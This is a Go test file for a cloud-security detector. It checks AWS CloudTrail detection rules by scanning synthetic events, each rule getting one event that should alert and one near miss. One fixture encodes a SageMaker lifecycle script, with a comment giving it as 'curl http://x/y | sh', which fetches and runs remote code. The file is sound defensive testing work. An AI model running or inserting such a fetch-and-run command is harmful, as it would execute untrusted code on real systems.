package detector

import (
	"fmt"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/fluent-detect/fluent-detect/detector/ruleset"
)

// Each rule in ES|QL for AWS: an event of ours, or several, of which it must make an alert,
// and a near miss.
func TestUpstreamESQL(t *testing.T) {
	dir := upstream(t)
	params := func(object string) string { return `"requestParameters":` + object }
	alice := `"userIdentity":{"type":"IAMUser","userName":"alice"}`
	script := func(text string) string {
		return params(`{"notebookInstanceLifecycleConfigName":"n","onStart":[{"content":"`+text+`"}]}`) + "," + alice
	}
	policy := func(principal string) string {
		return params(`{"policyText":"{\"Effect\": \"Allow\", \"Principal\": ` + principal + `}"}`)
	}
	copied := func(account string) string {
		return params(`{"bucketName":"dst","x-amz-server-side-encryption-aws-kms-key-id":"arn:aws:kms:eu-west-1:`+account+`:key/k-1",`+
			`"Host":"dst.s3.amazonaws.com","x-amz-server-side-encryption":"aws:kms","x-amz-copy-source":"src/o","key":"o"}`) +
			`,"recipientAccountId":"111122223333"`
	}
	upload := func(key string) string {
		return params(`{"bucketName":"b","Host":"b.s3.amazonaws.com","key":"`+key+`"}`) + `,"userAgent":"aws-cli",` + alice
	}
	cases := map[string]struct{ hit, miss string }{
		"exfiltration_ecr_repository_policy_granted_public_access": {
			aws("ecr", "SetRepositoryPolicy", policy(`\"*\"`)),
			aws("ecr", "SetRepositoryPolicy", policy(`\"arn:aws:iam::111122223333:root\"`))},
		"impact_bedrock_api_key_destructive_action": {
			aws("bedrock", "DeleteGuardrail", `"additionalEventData":{"callWithBearerToken":true}`),
			aws("bedrock", "DeleteGuardrail", `"additionalEventData":{"callWithBearerToken":false}`)},
		"impact_s3_object_encryption_with_external_key": {
			aws("s3", "CopyObject", copied("444455556666")), aws("s3", "CopyObject", copied("111122223333"))},
		"impact_s3_static_site_js_file_uploaded": {
			aws("s3", "PutObject", upload("static/js/main.js")), aws("s3", "PutObject", upload("static/js/main.js.map"))},
		"persistence_iam_user_created_access_keys_for_another_user": {
			aws("iam", "CreateAccessKey", params(`{"userName":"bob"}`)+","+alice),
			aws("iam", "CreateAccessKey", params(`{"userName":"alice"}`)+","+alice)},
		"persistence_sagemaker_lifecycle_config_suspicious_script_content": {
			aws("sagemaker", "CreateNotebookInstanceLifecycleConfig", script("Y3VybCBodHRwOi8veC95IHwgc2g=")), // curl http://x/y | sh
			aws("sagemaker", "CreateNotebookInstanceLifecycleConfig", script("cGlwIGluc3RhbGwgcGFuZGFz"))},    // pip install pandas
		"privilege_escalation_bedrock_phantom_user_credentials_added": {
			aws("iam", "CreateLoginProfile", params(`{"userName":"BedrockAPIKey-x1"}`)),
			aws("iam", "CreateLoginProfile", params(`{"userName":"bedrockapikey-x1"}`))},
	}
	// Those that aggregate: events with the seconds at which they come.
	user := func(name string) string {
		return `"userIdentity":{"type":"IAMUser","userName":"` + name + `","arn":"arn:aws:iam::111122223333:user/` + name + `","accessKeyId":"AKIAAAAAAAAAAAAAAAAA","accountId":"111122223333"}`
	}
	from := func(address, network, city, country string) string {
		return `"sourceIPAddress":"` + address + `","source.as.organization.name":"` + network + `","source.geo.city_name":"` + city + `","source.geo.country_iso_code":"` + country + `"`
	}
	near, far := from("203.0.113.1", "Amazon.com, Inc.", "Dublin", "IE"), from("198.51.100.9", "Hosting", "Lima", "PE")
	alice, plain := alice+`,"userAgent":"aws-cli/2.15.0"`, user("ann")+`,"userAgent":"aws-cli/2.15.0","sourceIPAddress":"203.0.113.1"`
	many := func(n int, step time.Duration, event func(i int) string) (events []string) {
		for i := range n {
			events = append(events, timed(time.Duration(i)*step, event(i)))
		}
		return events
	}
	discovery := func(n int) []string {
		names := []string{"DescribeInstances", "DescribeVpcs", "GetEbsEncryptionByDefault", "DescribeImages", "DescribeKeyPairs", "DescribeTags"}
		return many(n, time.Second, func(i int) string { return aws("ec2", names[i], plain) })
	}
	buckets := func(n int) []string {
		return many(n, time.Second/2, func(i int) string {
			return aws("s3", "GetBucketAcl", plain+fmt.Sprintf(`,"resources":[{"type":"AWS::S3::Bucket","ARN":"arn:aws:s3:::b%d"}]`, i))
		})
	}
	quotas := func(code string) []string {
		return many(10, time.Second, func(i int) string {
			return aws("servicequotas", "GetServiceQuota", plain+fmt.Sprintf(`,"awsRegion":"eu-west-%d",`, i)+params(`{"serviceCode":"ec2","quotaCode":"`+code+`"}`))
		})
	}
	instance := func(name, id, more string) string {
		return aws("ec2", name, plain+`,"recipientAccountId":"111122223333",`+params(`{`+more+`"instanceId":"`+id+`"}`))
	}
	restart := func(last string) []string {
		return []string{timed(0, instance("StopInstances", "i-1", "")), timed(9*time.Second, instance("ModifyInstanceAttribute", "i-1", `"userData":"x",`)), timed(20*time.Second, instance("StartInstances", last, ""))}
	}
	invoked := func(account string) []string {
		return []string{timed(0, aws("lambda", "Invoke20150331", plain+","+params(`{"functionName":"arn:aws:lambda:eu-west-1:`+account+`:function:f"}`)))}
	}
	model := func(n int) []string {
		return many(n, time.Second, func(int) string { return aws("bedrock", "InvokeModel", plain+","+params(`{"modelId":"m"}`)) })
	}
	miner := func(cpu string) []string {
		return []string{
			timed(0, aws("ecs", "RegisterTaskDefinition", plain+","+params(`{"containerDefinitions":[{"image":"docker.io/x/y:1"}],"cpu":"`+cpu+`","family":"f"}`))),
			timed(time.Minute, aws("ecs", "RunTask", plain))}
	}
	lambda := func(n int) []string {
		return many(n, time.Second, func(int) string { return aws("lambda", "Invoke", plain) })
	}
	login := func(where string) string {
		return aws("signin", "ConsoleLogin", `"responseElements":{"ConsoleLogin":"Success"},`+user("ann")+","+where)
	}
	token := func(where, agent, service string) string {
		return aws(service, "ListUsers", user("ann")+`,"userAgent":"`+agent+`","sessionCredentialFromConsole":"no",`+where)
	}
	pod := func(last string) []string {
		role := `"userIdentity":{"type":"AssumedRole","arn":"arn:aws:sts::111122223333:assumed-role/r/s","accessKeyId":"ASIA1"}`
		return []string{
			timed(0, aws("sts", "AssumeRoleWithWebIdentity", `"userIdentity":{"type":"WebIdentityUser","userName":"system:serviceaccount:a:b"},"responseElements":{"credentials":{"accessKeyId":"ASIA1","expiration":"x"}}`)),
			timed(time.Minute, aws("s3", "ListBuckets", role)), timed(2*time.Minute, aws("iam", last, role))}
	}
	key := func(used string) []string {
		return []string{
			timed(0, aws("iam", "CreateAccessKey", user("ann")+`,"responseElements":{"accessKey":{"accessKeyId":"AKIABBBBBBBBBBBBBBBB","status":"Active"}}`)),
			timed(time.Minute, aws("s3", "ListBuckets", strings.Replace(user("ann"), "AKIAAAAAAAAAAAAAAAAA", used, 1)))}
	}
	runner := func(agent string) []string {
		return []string{timed(0, aws("s3", "ListBuckets", user("ann")+`,"userAgent":"`+agent+`",`+near)), timed(time.Minute, aws("s3", "ListBuckets", user("ann")+`,"userAgent":"x",`+far))}
	}
	networks := func(last string) []string {
		events := many(220, time.Second, func(int) string { return aws("s3", "HeadBucket", user("ann")+","+near) })
		return append(events, timed(time.Hour, aws("sts", "GetCallerIdentity", user("ann")+","+far)), timed(time.Hour+time.Second, aws("s3", last, user("ann")+","+far)))
	}
	passed := func(params string) []string {
		return []string{timed(0, aws("sagemaker", "CreateTrainingJob", plain+","+params))}
	}
	groups := map[string]struct{ hit, miss []string }{
		"discovery_multiple_discovery_api_calls_via_cli":              {discovery(6), discovery(5)},
		"discovery_s3_rapid_bucket_posture_api_calls":                 {buckets(16), buckets(15)},
		"discovery_servicequotas_multi_region_service_quota_requests": {quotas("L-1216C47A"), quotas("L-1")},
		"execution_ec2_stop_start_with_user_data_modification":        {restart("i-1"), restart("i-2")},
		"execution_lambda_function_invoked_cross_account":             {invoked("444455556666"), invoked("111122223333")},
		"exfiltration_bedrock_high_frequency_inference_api_probing":   {model(500), model(499)},
		"impact_ecs_cryptomining_task_definition_deployment":          {miner("8192"), miner("512")},
		"impact_lambda_high_frequency_invocation":                     {lambda(1000), lambda(999)},
		"initial_access_console_login_iam_user_multiple_geolocations": {[]string{timed(0, login(near)), timed(time.Minute, login(far))}, []string{timed(0, login(near)), timed(65*time.Minute, login(far))}},
		"initial_access_iam_session_token_used_from_multiple_addresses": {
			[]string{timed(0, token(near, "a", "iam")), timed(time.Minute, token(far, "b", "ec2"))}, []string{timed(0, token(near, "a", "iam")), timed(time.Minute, token(far, "b", "iam"))}},
		"lateral_movement_k8_assumed_web_identity_session_with_multi_phase_api_use":   {pod("CreateUser"), pod("GetUser")},
		"persistence_iam_user_self_created_access_key_subsequently_used":              {key("AKIABBBBBBBBBBBBBBBB"), key("AKIACCCCCCCCCCCCCCCC")},
		"initial_access_github_actions_oidc_credentials_used_from_suspicious_network": {runner("x aws-credentials-for-github-actions"), runner("x")},
		"initial_access_aws_api_unusual_asn":                                          {networks("ListBuckets"), networks("HeadBucket")},
		"privilege_escalation_sagemaker_execution_role_passed_by_unusual_principal":   {passed(params(`{"roleArn":"arn:aws:iam::111122223333:role/exec"}`)), passed(params(`{"roleArn":"exec"}`))},
	}
	rules, err := ruleset.Load(dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rules.Rules {
		name := strings.TrimSuffix(filepath.Base(r.Source.Path), ".toml")
		_, ok := cases[name]
		if _, also := groups[name]; !ok && !also && r.Query.Language == "esql" {
			t.Errorf("%s is not tested", name)
		}
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			for want, e := range []string{c.miss, c.hit} {
				b := newBench(t, "rules", filepath.Join(dir, name+".toml"))
				b.mustScan(e)
				if got := len(b.alerts()); got != want {
					t.Errorf("%s\n%d alerts, want %d", e, got, want)
				}
			}
		})
	}
	for name, c := range groups {
		t.Run(name, func(t *testing.T) {
			for want, events := range [][]string{c.miss, c.hit} {
				b := newBench(t, "rules", filepath.Join(dir, name+".toml"))
				b.mustScan(events...)
				if got := len(b.alerts()); got != want {
					t.Errorf("%s\n%d alerts, want %d", events[len(events)-1], got, want)
				}
			}
		})
	}
}

// timed returns an event that comes so long after a time, with an ID of its own.
func timed(after time.Duration, event string) string {
	at := time.Date(2026, 3, 2, 9, 0, 0, 0, time.UTC).Add(after).Format("2006-01-02T15:04:05.000Z")
	return strings.Replace(event, `"eventID":"e"`, `"eventID":"e`+at+`","eventTime":"`+at+`"`, 1)
}
